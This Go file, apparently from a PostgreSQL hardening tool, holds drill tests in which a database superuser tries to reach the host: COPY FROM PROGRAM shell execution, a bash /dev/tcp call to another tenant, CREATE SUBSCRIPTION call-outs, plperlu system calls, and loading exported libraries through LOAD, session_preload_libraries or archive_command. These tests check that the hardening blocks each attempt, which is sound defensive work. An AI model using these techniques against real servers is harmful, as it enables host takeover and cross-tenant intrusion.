package drill

import (
	"context"
	"crypto/rand"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// sqlAttempts: A36 to A39. The attacker is a superuser of the database.
func sqlAttempts() []attempt {
	const helpers = "take shells out of helpers; landlock.mode: required"
	return []attempt{
		{row: "A36", name: "program", does: "COPY FROM PROGRAM: execute a shell", base: asUser, sql: copyProgram, fix: helpers},
		{row: "A36", name: "reverse-shell", does: "COPY FROM PROGRAM: a shell that calls another tenant", base: asUser, packets: true, sql: reverseShell, fix: helpers},
		{row: "A36", name: "call-out", does: "CREATE SUBSCRIPTION: the server itself calls another tenant", base: asUser, packets: true, sql: callOut, fix: "look at `pghardend plan` and at the flows"},
		{row: "A37", name: "plperlu", does: "plperlu: make a system call of the attacker's choice (memfd_create)", base: asUser, sql: perlCall, fix: fixProfile},
		{row: "A38", name: "load", does: "lo_export of a library, and LOAD", base: asUser, sql: loadLibrary, fix: fixNoexec},
		{row: "A39", name: "archive_command", does: "ALTER SYSTEM SET archive_command, reload, and a switch of WAL", base: asUser, sql: archiveCommand, fix: helpers},
		{row: "A39", name: "preload", does: "ALTER SYSTEM SET session_preload_libraries to an exported library, and reload", base: asUser, sql: preload, fix: fixNoexec},
	}
}

// archiveTime is how long the archiver may take.
const archiveTime = 30 * time.Second

// answers are the C library's texts of error numbers; the server is run in English.
var answers = []struct {
	text  string
	errno unix.Errno
}{
	{"Permission denied", unix.EACCES}, {"Operation not permitted", unix.EPERM}, {"Function not implemented", unix.ENOSYS},
	{"Resource temporarily unavailable", unix.EAGAIN}, {"Connection timed out", unix.ETIMEDOUT}, {"Connection refused", unix.ECONNREFUSED},
	// The loader's text for mmap's answer on a file system with noexec.
	{"failed to map segment from shared object", unix.EPERM},
}

// sqlOutcome reads an error of the server.
func sqlOutcome(step string, err error) outcome {
	text := err.Error()
	if strings.Contains(text, "could not execute command") {
		return outcome{Step: "execve", Note: "the shell was not executed"} // the error number is popen's, and says nothing
	}
	if errors.Is(err, context.DeadlineExceeded) {
		return outcome{Step: step, Errno: errnoName(unix.ETIMEDOUT)}
	}
	o := outcome{Step: step}
	for _, a := range answers {
		if strings.Contains(text, a.text) {
			o.Errno = errnoName(a.errno)
			return o
		}
	}
	o.Note = strings.SplitN(text, "\n", 2)[0]
	return o
}

// word is one that nobody has said before.
func word() string { return "drill-" + rand.Text() }

// program has the server run a shell command.
func (c *cluster) program(ctx context.Context, sh string) (string, error) {
	return c.query(ctx, "CREATE TEMP TABLE said (line text);\nCOPY said FROM PROGRAM $program$"+sh+"$program$;\nSELECT string_agg(line, E'\\n') FROM said;")
}

func copyProgram(ctx context.Context, b *box) outcome {
	w := word()
	said, err := b.cluster.program(ctx, "echo "+w)
	if err != nil {
		return sqlOutcome("execve", err)
	}
	if !strings.Contains(said, w) {
		return outcome{Step: "run", Note: "it said nothing"}
	}
	return reached
}

func reverseShell(ctx context.Context, b *box) outcome {
	if _, err := os.Stat("/usr/bin/bash"); err != nil {
		return absent("there is no bash on this host")
	}
	w := word()
	_, err := b.cluster.program(ctx, fmt.Sprintf("exec /usr/bin/bash -c 'echo %s > /dev/tcp/%s/%d'", w, Sibling[0].Addr(), portShell))
	switch {
	case err != nil && strings.Contains(err.Error(), "exit code 1"):
		return outcome{Step: "connect", Errno: errnoName(unix.ETIMEDOUT), Note: "the shell ran"}
	case err != nil:
		return sqlOutcome("execve", err)
	case !b.outside.hears(ctx, w):
		return outcome{Step: "connect", Note: "nobody was called"}
	}
	return reached
}

// callOut has the server speak its own protocol, in which the word is the name of
// the database that it asks for.
func callOut(ctx context.Context, b *box) outcome {
	w := word()
	_, err := b.cluster.query(ctx, fmt.Sprintf("SET statement_timeout = '10s';\nCREATE SUBSCRIPTION drill CONNECTION 'host=%s port=%d user=x dbname=%s connect_timeout=2 sslmode=disable gssencmode=disable' PUBLICATION x;",
		Sibling[0].Addr(), portShell, w))
	if err == nil || b.outside.hears(ctx, w) {
		return reached
	}
	if strings.Contains(err.Error(), "timeout expired") {
		return outcome{Step: "connect", Errno: errnoName(unix.ETIMEDOUT)}
	}
	return sqlOutcome("connect", err)
}

func perlCall(ctx context.Context, b *box) outcome {
	there, err := b.cluster.query(ctx, "SELECT count(*) FROM pg_available_extensions WHERE name = 'plperlu'")
	if err != nil {
		return sqlOutcome("query", err)
	}
	if there == "0" {
		return absent("plperlu is not installed")
	}
	said, err := b.cluster.query(ctx, fmt.Sprintf("CREATE EXTENSION IF NOT EXISTS plperlu;\nCREATE OR REPLACE FUNCTION drill() RETURNS text LANGUAGE plperlu AS $$ my $n = 'drill'; my $r = syscall(%d, $n, 0); return $r >= 0 ? 'reached' : 0 + $!; $$;\nSELECT drill();",
		unix.SYS_MEMFD_CREATE))
	if err != nil {
		return sqlOutcome("perl", err)
	}
	if said == "reached" {
		return reached
	}
	var errno int
	if _, err := fmt.Sscan(said, &errno); err != nil {
		return outcome{Step: "memfd_create", Note: said}
	}
	return stopped("memfd_create", unix.Errno(errno))
}

// export writes a library into the data directory through the server: one of its
// own, under another name.
func export(ctx context.Context, b *box, name string) (string, error) {
	file := filepath.Join(b.data, name)
	_, err := b.cluster.query(ctx, "SELECT setting || '/dict_int.so' AS lib FROM pg_config WHERE name = 'PKGLIBDIR' \\gset\n"+
		"SELECT lo_import(:'lib') AS oid \\gset\nSELECT lo_export(:oid, '"+file+"'), lo_unlink(:oid);")
	return file, err
}

func loadLibrary(ctx context.Context, b *box) outcome {
	file, err := export(ctx, b, "drill-load.so")
	if err != nil {
		return sqlOutcome("export", err)
	}
	if _, err := b.cluster.query(ctx, "LOAD '"+file+"'"); err != nil {
		return sqlOutcome("load", err)
	}
	return reached
}

func preload(ctx context.Context, b *box) outcome {
	file, err := export(ctx, b, "drill-preload.so")
	if err != nil {
		return sqlOutcome("export", err)
	}
	// Of one role: if the library cannot be loaded, it cannot log in any more.
	if _, err := b.cluster.query(ctx, "DO $$ BEGIN CREATE ROLE drill LOGIN; EXCEPTION WHEN duplicate_object THEN NULL; END $$;\n"+
		"ALTER ROLE drill SET session_preload_libraries = '"+file+"'"); err != nil {
		return sqlOutcome("set", err)
	}
	if _, err := b.cluster.query(ctx, "\\c - drill\nSELECT 1"); err != nil {
		return sqlOutcome("load", err)
	}
	return reached
}

// archiveCommand waits for the archiver, which nobody asks and which says in the
// server's log what it did.
func archiveCommand(ctx context.Context, b *box) outcome {
	owned := filepath.Join(b.data, word())
	_, err := b.cluster.query(ctx, "ALTER SYSTEM SET archive_command = 'echo x > "+owned+"'")
	if err == nil {
		_, err = b.cluster.query(ctx, "SELECT pg_reload_conf();\nCREATE TABLE IF NOT EXISTS x (); DROP TABLE x;\nSELECT pg_switch_wal()")
	}
	if err != nil {
		return sqlOutcome("set", err)
	}
	defer func() {
		_, _ = b.cluster.query(ctx, "ALTER SYSTEM RESET archive_command") // the next start would use it
		_, _ = b.cluster.query(ctx, "SELECT pg_reload_conf()")
	}()
	deadline := time.After(archiveTime)
	for {
		if _, err := os.Stat(owned); err == nil {
			return reached
		}
		// The C library's system() says 127 if there is no shell.
		if strings.Contains(b.cluster.log.String(), "archive command failed with exit code 127") {
			return outcome{Step: "execve", Note: "the shell was not executed"}
		}
		select {
		case <-ctx.Done():
			return outcome{Absent: "interrupted"}
		case <-deadline:
			return outcome{Step: "archive", Errno: errnoName(unix.ETIMEDOUT)}
		case <-time.After(20 * time.Millisecond):
		}
	}
}

// reachable says where the scratch server listens.
func reachable() netip.AddrPort { return netip.AddrPortFrom(Node[0].Addr(), serverPort) }
